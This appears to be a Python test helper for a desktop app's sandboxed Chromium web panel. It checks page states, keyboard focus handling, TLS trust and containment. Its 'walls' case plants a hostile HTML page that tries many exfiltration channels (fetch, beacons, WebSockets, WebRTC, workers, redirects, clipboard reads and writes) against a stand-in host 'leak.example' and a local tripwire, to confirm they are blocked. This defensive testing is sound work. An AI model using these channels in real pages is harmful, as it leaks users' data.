"""Panels with real web pages of real servers, in a process of its own: what Chromium may reach is
said once per process.

`python -m tests.helpers.web_desk FOLDER CASE` prints what was seen, a line of JSON; cases:
walls, hands, states, secure.
"""

import asyncio
import dataclasses
import json
import os
import sys
import time
from collections.abc import Awaitable, Callable, Mapping
from pathlib import Path
from typing import Any

import msgspec
from PySide6.QtCore import QCoreApplication, QEvent, Qt, QTimer
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QLineEdit, QVBoxLayout, QWidget

from app.city import load_city
from app.config import PageConfig, Tls
from app.video.tile import State
from tests.helpers.alone import run_alone, say
from tests.helpers.http_server import Asked, HttpServer, Reply, http_server
from tests.helpers.seat import TestCity, TestSeat, context_of
from tests.helpers.tls import Authority
from tests.helpers.tripwire import Tripwire
from widgets.bridge import Bridge
from widgets.map_house import MapHouse
from widgets.panels.web import Web

WITHIN_S = 40.0
HTML = {"Content-Type": "text/html; charset=utf-8"}
PLAIN = "<!doctype html><title>t</title><body style='background:#24507a'><h1>会商</h1>"


def html(body: str, status: int = 200, **headers: str) -> Callable[..., Awaitable[Reply]]:
    """A handler that gives a page."""

    async def give(_server: HttpServer, _asked: Asked, _writer: object) -> Reply:
        named = {name.replace("_", "-"): text for name, text in headers.items()}
        return Reply(body.encode(), status, HTML | named)

    return give


def asked(server: HttpServer, path: str) -> int:
    """How often a path was asked for."""
    return sum(one.path == path for one in server.asked)


class Room:
    """A window with a field that has the keys, and panels of pages beside it."""

    def __init__(self, folder: Path, pages: list[PageConfig]) -> None:
        city = load_city("huaian")
        config = msgspec.structs.replace(city.config, page=pages)
        self.seat = TestSeat(city=TestCity(config=config))
        self.bridge = Bridge(self.seat.hub)
        self.house = MapHouse(
            city, self.seat.picture, self.seat.hub, self.seat.clock, self.seat.seat, folder
        )
        context = context_of(self.seat, self.bridge)
        self.context = dataclasses.replace(context, maps=self.house)
        self.window = QWidget()
        self.window.resize(900, 700)
        self.layout = QVBoxLayout(self.window)
        self.field = QLineEdit()
        self.layout.addWidget(self.field)
        self.window.show()
        self.window.activateWindow()
        self.field.setFocus()
        self.panel: Web | None = None
        self.seen: dict[str, Any] = {}

    async def open(self, page: str, **options: Any) -> Web:
        """The panel of a page, in place of the one before."""
        await self.shut()
        panel = Web(self.context, Web.Options(page=page, **options))
        self.layout.addWidget(panel)
        panel.show()
        self.panel = panel
        self.bridge.tick.emit()
        return panel

    async def shut(self) -> None:
        """No panel."""
        if self.panel is not None:
            self.panel.stop()
            self.panel.hide()
            self.panel.deleteLater()
            self.panel = None
            for _ in range(10):
                QCoreApplication.sendPostedEvents(None, QEvent.Type.DeferredDelete)
                await asyncio.sleep(0)

    async def state(self, *wanted: State) -> list[Any]:
        """Wait for a state; gives it with the id of its reason."""
        panel = self.panel
        assert panel is not None

        def there() -> bool:
            self.bridge.tick.emit()
            return panel.keeper is not None and panel.verdict.state in wanted

        await self.until(there, f"{wanted}: {panel.verdict}")
        why = panel.verdict.why
        return [panel.verdict.state.value, why.id.removeprefix("webpage.") if why else ""]

    async def until(self, condition: Callable[[], Any], what: str = "") -> None:
        """Let the loop turn until a condition holds."""
        end = time.monotonic() + WITHIN_S
        while not condition():
            assert time.monotonic() < end, f"never came true: {what}"
            await asyncio.sleep(0.01)

    async def script(self, code: str) -> Any:
        """The value of an expression in the page's own world."""
        box: list[Any] = []
        assert self.panel is not None and self.panel.keeper is not None
        page = self.panel.keeper.source.view.page()
        page.runJavaScript(f"JSON.stringify({code})", box.append)
        await self.until(lambda: box, code)
        return json.loads(box[0]) if box[0] else None

    async def until_script(self, code: str) -> None:
        """Wait until an expression of the page is true."""
        end = time.monotonic() + WITHIN_S
        while not await self.script(code):
            assert time.monotonic() < end, f"never came true: {code}"
            await asyncio.sleep(0.05)


# ---- nothing gets out, nothing is asked


PLANTED = """<!doctype html><body><input id=i autofocus><script>
const out = '@OUT@', name = 'http://leak.example';
window.done = [];
const put = (tag, fields, place) => (place || document.body).append(
  Object.assign(document.createElement(tag), fields));
for (const [kind, way] of [['plain', out + '/'], ['led', '/away?'], ['named', name + '/']]) {
  put('img', {src: way + kind + 'img'});
  put('script', {src: way + kind + 'script'});
  put('link', {rel: 'stylesheet', href: way + kind + 'css'}, document.head);
  put('iframe', {src: way + kind + 'frame'});
  put('video', {src: way + kind + 'video', autoplay: true});
  put('object', {data: way + kind + 'object'});
  fetch(way + kind + 'fetch').catch(() => 0);
  fetch(way + kind + 'nocors', {mode: 'no-cors'}).catch(() => 0);
  navigator.sendBeacon(way + kind + 'beacon', 'x');
  new EventSource(way + kind + 'source');
  new Worker(URL.createObjectURL(new Blob([`fetch('${location.origin}/away?worker');
    fetch('${out}/worker'); importScripts('${location.origin}/away?import')`])));
  put('form', {method: 'post', action: way + kind + 'form', target: '_self'});
}
put('link', {rel: 'preconnect', href: name}, document.head);
put('link', {rel: 'prefetch', href: out + '/prefetch'}, document.head);
new WebSocket(out.replace('http', 'ws') + '/ws').onerror = () => done.push('ws');
new WebSocket(location.origin.replace('http', 'ws') + '/own').onopen = () => done.push('ownws');
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:@STUN@'}]});
peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o));
navigator.serviceWorker?.register('/service.js').catch(() => done.push('service'));
window.open(out + '/window'); window.open('/same');
put('a', {href: '/file', download: 'x.bin', id: 'd'}); document.getElementById('d').click();
alert('x'); done.push(confirm('x') === false, prompt('x') === null);
navigator.geolocation?.getCurrentPosition(() => done.push('place'), () => done.push('no place'));
navigator.mediaDevices?.getUserMedia({audio: true, video: true}).then(
  () => done.push('camera'), () => done.push('no camera'));
Notification.requestPermission().then(p => done.push('notify ' + p));
navigator.clipboard?.writeText('stolen').then(
  () => done.push('wrote'), () => done.push('no write'));
navigator.clipboard?.readText().then(() => done.push('read'), () => done.push('no read'));
document.execCommand('copy');
document.documentElement.requestFullscreen?.().catch(() => done.push('no full screen'));
window.focus(); document.getElementById('i').focus();
setTimeout(() => { location.href = out + '/gone'; }, 300);
setTimeout(() => { for (const form of document.forms) form.submit(); }, 600);
</script>"""


async def walls(folder: Path) -> dict[str, Any]:
    """A page that tries everything."""
    with Tripwire() as wire:
        async with http_server() as server:
            out = f"http://127.0.0.1:{wire.tcp_port}"
            for name in ("http_proxy", "https_proxy", "all_proxy"):
                os.environ[name] = out  # what the system would have used is not
            text = PLANTED.replace("@OUT@", out).replace("@STUN@", str(wire.udp_port))

            async def away(_server: HttpServer, request: Asked, _writer: object) -> Reply:
                return Reply(b"", 302, {"Location": f"{out}/led?{request.target[-20:]}"})

            server.on("/planted", html(text))
            server.on("/away", away)
            server.on("/service.js", html("fetch('/x')", Content_Type="text/javascript"))
            server.on("/file", html("x", Content_Type="application/octet-stream"))
            room = Room(folder, [PageConfig("planted", "网页", server.url("/planted"))])
            QApplication.clipboard().setText("the officer's")
            await room.open("planted")
            await room.state(State.LIVE)
            wanted = {"img", "script", "css", "frame", "fetch", "nocors", "beacon", "worker"}
            await room.until(
                lambda: wanted <= {one.target.partition("led")[2] or one.target.partition("?")[2]
                                   for one in server.asked if one.path == "/away"},
                "redirects were asked for",
            )  # fmt: skip
            await room.until_script(
                "['ws', 'no place', 'no camera', 'no write', 'no read']"
                ".every(one => done.includes(one))"
            )
            room.seen["service worker"] = asked(server, "/service.js")
            room.seen["done"] = await room.script("window.done")
            keeper = room.panel.keeper  # type: ignore[union-attr]
            await room.until(lambda: keeper.stopped > 20, "what the page's rules stopped is known")
            room.seen["state"] = await room.state(State.LIVE)
            room.seen["tcp"], room.seen["udp"] = wire.tcp, wire.udp
            room.seen["off the record"] = keeper.source.is_off_the_record
            room.seen["by"] = sorted(keeper.source.ledger.stopped)
            room.seen["clipboard"] = QApplication.clipboard().text()
            room.seen["windows"] = len([w for w in QApplication.topLevelWidgets() if w.isVisible()])
            room.seen["said"] = [str(item) for item in room.panel.items()]  # type: ignore[union-attr]
            await room.shut()
            return room.seen


async def hands(folder: Path) -> dict[str, Any]:
    """Keys come to a page only by Enter, and leave it by Esc."""
    text = PLAIN + "<input id=i autofocus><script>onkeydown=e=>document.title+=e.key;"
    async with http_server() as server:
        server.on("/work", html(text + "window.focus();i.focus();</script>"))
        room = Room(folder, [PageConfig("work", "会商", server.url("/work"), interactive=True)])
        await type_there(room)
        await room.shut()
        return room.seen


async def type_there(room: Room) -> None:
    """Somebody types into the field, into the page, and elsewhere again."""
    panel = await room.open("work")
    await room.state(State.LIVE)
    room.seen["focus"] = QApplication.focusWidget() is room.field
    QTest.keyClicks(room.field, "abc")
    room.seen["before"] = [await room.script("document.title"), room.field.text()]
    panel.setFocus(Qt.FocusReason.TabFocusReason)
    QTest.keyClick(panel, Qt.Key.Key_Return)
    room.seen["inside"] = panel.inside
    target = panel.keeper.source.view.focusProxy()  # type: ignore[union-attr]
    await room.until(lambda: QApplication.focusWidget() is target, "the page has the keys")
    QTest.keyClicks(target, "xy")
    await room.until_script("document.title === 'txy'")
    room.seen["typed"] = await room.script("document.title")
    QTest.keyClick(target, Qt.Key.Key_Escape)
    await room.until(lambda: QApplication.focusWidget() is panel, "the keys are back")
    room.seen["left"] = not panel.inside
    QTest.keyClick(panel, Qt.Key.Key_Return)
    room.field.setFocus()
    room.seen["left for another"] = not panel.inside


# ---- what is said of it


def pages_of(url: Callable[[str], str], other: str) -> list[PageConfig]:
    """A page for each thing that may be wrong with one."""
    page = PageConfig
    return [
        page("plain", "会商", url("/plain"), ask_s=0.5),
        page("stuck", "卡死", url("/stuck")),
        page("gone", "没有", url("/nothing")),
        page("error", "出错", url("/500")),
        page("closed", "不许", url("/403")),
        page("right", "口令", url("/locked?right"), credential="good"),
        page("wrong", "口令", url("/locked?right"), credential="bad"),
        page("none", "口令", url("/locked?right")),
        page("lost", "口令", url("/locked?right"), credential="nowhere"),
        page("bearer", "令牌", url("/locked?token"), credential="token", sign_in="bearer"),
        page("led", "转走", url("/elsewhere")),
        page("let", "转走", url("/elsewhere"), hosts=(other,)),
        page("open", "明文", "http://far.example/"),
        page("name", "无名", "https://nowhere.invalid/"),
    ]


async def states(folder: Path) -> dict[str, Any]:
    """Everything that may become of a page."""
    async with http_server() as server, http_server() as other:
        passes: Mapping[str, str] = {"right": "Basic dTpw", "token": "Bearer t0ken"}

        async def locked(_server: HttpServer, request: Asked, _writer: object) -> Reply:
            if request.headers.get("authorization") == passes[request.target.partition("?")[2]]:
                return Reply(PLAIN.encode(), 200, HTML)
            return Reply(b"no", 401, {"WWW-Authenticate": 'Basic realm="x"'})

        async def elsewhere(_server: HttpServer, _asked: Asked, _writer: object) -> Reply:
            return Reply(b"", 302, {"Location": other.url("/plain")})

        for at in (server, other):
            at.on("/plain", html(PLAIN))
        server.on("/stuck", html(PLAIN + "<script>stick=()=>{for(;;);}</script>"))
        server.on("/500", html("x", 500))
        server.on("/403", html("x", 403))
        server.on("/locked", locked)
        server.on("/elsewhere", elsewhere)
        secrets = folder / "secrets"
        secrets.mkdir()
        for name, value in (("good", "u:p"), ("bad", "u:wrong"), ("token", "t0ken")):
            (secrets / name).write_text(value)
            (secrets / name).chmod(0o600)
        room = Room(folder, pages_of(server.url, f"127.0.0.1:{other.port}"))
        seen = room.seen
        for name in ("gone", "error", "closed", "right", "wrong", "none", "lost", "bearer"):
            before = len(server.asked)
            panel = await room.open(name)
            await room.until(lambda panel=panel: panel.keeper is not None)
            seen[name] = await room.state(*(set(State) - {State.CONNECTING}))
            sent = [one.headers.get("authorization") for one in server.asked[before:]]
            seen[f"{name} sent"] = [one for one in sent if one]
        for name in ("led", "let", "open", "name"):
            panel = await room.open(name)
            seen[name] = await room.state(*(set(State) - {State.CONNECTING}))
            room.bridge.tick.emit()
            keeper = panel.keeper
            assert keeper is not None
            keeper.begin()
            seen[f"{name} opened"] = keeper.opened
        seen["other asked"] = asked(other, "/plain")
        await comes_back(room, server)
        await dies(room)
        await room.shut()
        return seen


async def comes_back(room: Room, server: HttpServer) -> None:
    """Its server goes while it is open, and comes back."""
    panel = await room.open("plain")
    seen = room.seen
    seen["live"] = await room.state(State.LIVE)
    keeper = panel.keeper
    assert keeper is not None
    await room.until(lambda: keeper.still is not None, "a picture is kept")
    still = keeper.still
    seen["colour"] = still.pixelColor(still.width() // 2, still.height() - 5).name()
    await server.stop()
    seen["silent"] = await room.state(State.OFFLINE)
    words = panel.cover.words
    assert words is not None
    seen["covered"] = [words.old, "末帧" in words.note, panel.cover.still is still]
    keeper.open()
    await room.until(lambda: keeper._fault is not None, "it cannot be opened")
    seen["unreachable"] = await room.state(State.OFFLINE)
    opened = keeper.opened
    await server.start()
    seen["again"] = await room.state(State.LIVE)
    seen["by itself"] = keeper.opened > opened
    panel.hide()
    seen["asks when hidden"] = any(one.isActive() for one in keeper.findChildren(QTimer))


async def dies(room: Room) -> None:
    """Its process is stuck, then ends."""
    panel = await room.open("stuck")
    await room.state(State.LIVE)
    keeper = panel.keeper
    assert keeper is not None
    keeper.source.view.page().runJavaScript("stick()")
    room.seen["stuck"] = await room.state(State.FROZEN)
    opened = keeper.opened
    keeper.source.kill()
    room.seen["died"] = await room.state(State.CONNECTING)
    room.seen["reopened"] = await room.state(State.LIVE)
    room.seen["opened again"] = keeper.opened > opened


async def secure(folder: Path) -> dict[str, Any]:
    """A certificate of an authority that nobody knows, and the same once it is named."""
    authority = Authority(folder)
    async with http_server(authority.server_context()) as server:
        server.on("/plain", html(PLAIN))
        url = server.url("/plain").replace("127.0.0.1", "localhost")
        room = Room(
            folder,
            [
                PageConfig("strange", "证书", url),
                PageConfig("known", "证书", url, tls=Tls(ca=str(authority.file))),
            ],
        )
        await room.open("strange")
        room.seen["strange"] = await room.state(State.FORBIDDEN, State.LIVE)
        room.seen["asked"] = asked(server, "/plain")
        await room.open("known")
        room.seen["known"] = await room.state(State.FORBIDDEN, State.LIVE)
        await room.shut()
        return room.seen


def main() -> None:
    """One case."""
    cases = {"walls": walls, "hands": hands, "states": states, "secure": secure}
    say(run_alone(lambda: cases[sys.argv[2]](Path(sys.argv[1]))))


if __name__ == "__main__":
    main()
